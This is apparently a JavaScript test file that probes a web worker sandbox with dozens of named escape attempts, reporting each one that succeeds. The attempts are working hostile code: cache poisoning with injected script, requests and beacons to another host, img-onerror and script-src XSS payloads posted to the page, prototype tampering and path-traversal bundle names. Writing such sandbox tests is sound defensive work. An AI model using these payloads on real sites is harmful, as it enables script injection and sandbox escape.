// Ways out of the worker that own code may try, by name. Each is given `other` (the address of another host) and `site`
// (the address of this one), and calls `out(what)` as soon as it has reached anything that it must not reach.

({ other, site, out }) => {
  const got = (what) => (value) => out(`${what}: ${value?.status ?? value}`);
  const poison = `<!doctype html><html data-pwned="page"><script>fetch("${other}PAGE")</script>`;
  const page = { headers: { "Content-Type": "text/html" } };
  const script = `fetch("${other}SCRIPT")`;
  const spread = (from) => {
    const all = [];
    for (let level = from; level; level = Object.getPrototypeOf(level)) {
      for (const key of Reflect.ownKeys(level)) all.push(Object.getOwnPropertyDescriptor(level, key), key);
    }
    return all;
  };
  const poisonWith = async (store) => {
    for (const name of [...(await store.keys()), "searchlight-snapshot"]) {
      const cache = await store.open(name);
      for (const key of await cache.keys()) await cache.put(key, new Response(poison, page));
      await cache.put(`${site}index.html`, new Response(poison, page));
    }
    out("cache written");
  };
  const request = (address) => {
    const asking = new XMLHttpRequest();
    asking.open("GET", address, false);
    asking.send();
    out(`request: ${asking.status}`);
  };
  return {
    caches: () => poisonWith(caches),
    "caches by descriptor": () => {
      for (let level = globalThis; level; level = Object.getPrototypeOf(level)) {
        const getter = Object.getOwnPropertyDescriptor(level, "caches")?.get;
        if (getter) return poisonWith(getter.call(globalThis));
      }
    },
    "caches by class": () => CacheStorage.prototype.open.call(globalThis, "x").then(got("cache")),
    "a database": () => (indexedDB.open("escape").onsuccess = got("database")),
    "a database by class": () => IDBFactory.prototype.open.call(globalThis, "x"),
    "a private file": () => navigator.storage.getDirectory().then(got("file")),
    "persistent storage": () => navigator.storage.persist().then(got("persist")),
    locks: () => navigator.locks.request("escape", got("lock")),
    "another tab": () => (new BroadcastChannel("escape").postMessage("ESCAPED"), out("sent")),
    "a worker of a file": () => (new Worker(`${site}page/reload.js`), out("worker")),
    "a worker of a text": () => (new Worker(URL.createObjectURL(new Blob([script]))), out("worker")),
    "a worker of an address": () => (new Worker(`data:text/javascript,${script}`), out("worker")),
    "a shared worker": () => (new SharedWorker(`${site}page/reload.js`), out("worker")),
    "fetch, another host": () => fetch(`${other}FETCH`, { mode: "no-cors" }).then(got("fetch")),
    "fetch, kept alive": () => fetch(`${other}ALIVE`, { mode: "no-cors", keepalive: true }).then(got("fetch")),
    "fetch, this host": () => fetch(`${site}index.html`, { credentials: "include" }).then(got("fetch")),
    "a request, another host": () => request(`${other}REQUEST`),
    "a request, this host": () => request(`${site}index.html`),
    "a socket": () => (new WebSocket(other.replace("http", "ws")).onerror = got("socket")),
    "events of a server": () => (new EventSource(`${other}EVENTS`).onerror = got("events")),
    "web transport": () => new WebTransport(other.replace("http", "https")).ready.then(got("transport")),
    "a connection to a peer": () => new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1" }] }) && out("peer"),
    "a beacon": () => navigator.sendBeacon(`${other}BEACON`, "x") && out("beacon"),
    "a font": () => new FontFace("x", `url(${other}FONT)`).load().then(got("font")),
    "a notification": () => new Notification("x") && out("notification"),
    "a cookie": () => cookieStore.set("escape", "1").then(got("cookie")),
    "an old script": () => (importScripts(`${other}OLD`), out("script")),
    "a module of another host": () => import(`${other}MODULE`).then(got("module")),
    "a module of an address": () => import(`data:text/javascript,${script}`).then(got("module")),
    "a module of this worker": () => import(`${site}solver/worker.mjs`).then((it) => Object.keys(it).length && out("exports")),
    "this worker's module once more": () => import(`${site}solver/worker.mjs?again`).then((it) => Object.keys(it).length && out("exports")),
    "the page's way to workers": () => import(`${site}page/worker.mjs?again`).then(({ start }) => start() && out("worker")),
    "the page's drawing": () => import(`${site}web/seam.js`).then(({ save }) => (save("x", "y"), out("saved"))),
    "a function's text": () => Function(`return fetch("${other}TEXT")`)().then(got("fetch")),
    "a later text": () => setTimeout(`fetch("${other}LATER").then(() => 0)`),
    "a realm": () => out(new ShadowRealm().evaluate("typeof fetch")),
    "frames of the stack": () => {
      Error.prepareStackTrace = (_, sites) => sites.map((it) => it.getThis?.() ?? it.getFunction?.()).filter(Boolean);
      const things = new Error().stack;
      delete Error.prepareStackTrace;
      for (const thing of things) if (thing !== globalThis && spread(thing).includes("XMLHttpRequest")) out("stack");
    },
    "a bundle that is none": () => {
      for (const name of ["../../index.html", "__proto__", "constructor", `${other}BUNDLE`]) {
        try {
          layOutBundle(name);
        } catch {}
      }
    },
    "what a bundle is read with": () => {
      const former = [JSON.parse, Map.prototype.get, globalThis.Uint8Array, globalThis.TextDecoder];
      Map.prototype.get = () => `${site}index.html`;
      globalThis.TextDecoder = class {
        decode(bytes) {
          out(`read ${bytes.length}`);
          return "{}";
        }
      };
      try {
        layOutBundle("user_code");
      } catch {}
      [JSON.parse, Map.prototype.get, globalThis.Uint8Array, globalThis.TextDecoder] = former;
    },
    "a call of the page's": () => {
      const post = (...all) => postMessage(...all);
      post([1, "importJS", [`${site}page/reload.js`, "x"]]);
      post([1, "importCSS", [`${other}CSS`]]);
      post({ call: 1, answer: { then: "x" } });
      post({ started: "plain" });
      post({ lost: `<img src=${other}LOST onerror=document.documentElement.dataset.pwned=1>` });
      post({ searchlight: "open" });
      post("polyscript:done");
      post(new Error(`<script src=${other}ERROR>`));
    },
    "a port of the page's": () => {
      const send = MessagePort.prototype.postMessage;
      MessagePort.prototype.postMessage = function (...all) {
        send.call(this, [1, "importJS", [`${site}page/reload.js`, "x"]]);
        return send.apply(this, all);
      };
    },
    "anything in reach": () => {
      const names = /function (fetch|XMLHttpRequest|Worker|SharedWorker|BroadcastChannel|WebSocket|EventSource|get caches|get indexedDB|get navigator|importScripts)\(\) \{ \[native code\]/;
      const seen = new Set(), waiting = [globalThis, globalThis.pyodideJs];
      while (waiting.length && seen.size < 300_000) {
        const it = waiting.pop();
        if (it === null || (typeof it !== "object" && typeof it !== "function") || seen.has(it) || ArrayBuffer.isView(it)) continue;
        seen.add(it);
        try {
          if (typeof it === "function" && names.test(Function.prototype.toString.call(it))) out(`reached ${it.name}`);
          waiting.push(Object.getPrototypeOf(it));
          for (const key of Reflect.ownKeys(it)) {
            const { value, get, set } = Object.getOwnPropertyDescriptor(it, key);
            waiting.push(value, get, set);
          }
        } catch {}
      }
    },
  };
}
